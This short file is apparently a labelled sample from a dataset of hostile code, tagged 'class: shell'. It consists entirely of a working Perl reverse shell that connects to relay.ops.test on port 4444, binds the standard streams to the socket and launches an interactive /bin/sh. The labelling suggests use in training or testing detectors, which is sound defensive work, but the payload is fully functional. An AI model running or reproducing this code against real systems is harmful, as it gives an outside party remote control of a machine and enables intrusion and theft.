# class: shell; possible: low medium
use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
connect(S, sockaddr_in(4444, inet_aton('relay.ops.test'))) or die;
open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');
exec('/bin/sh -i');
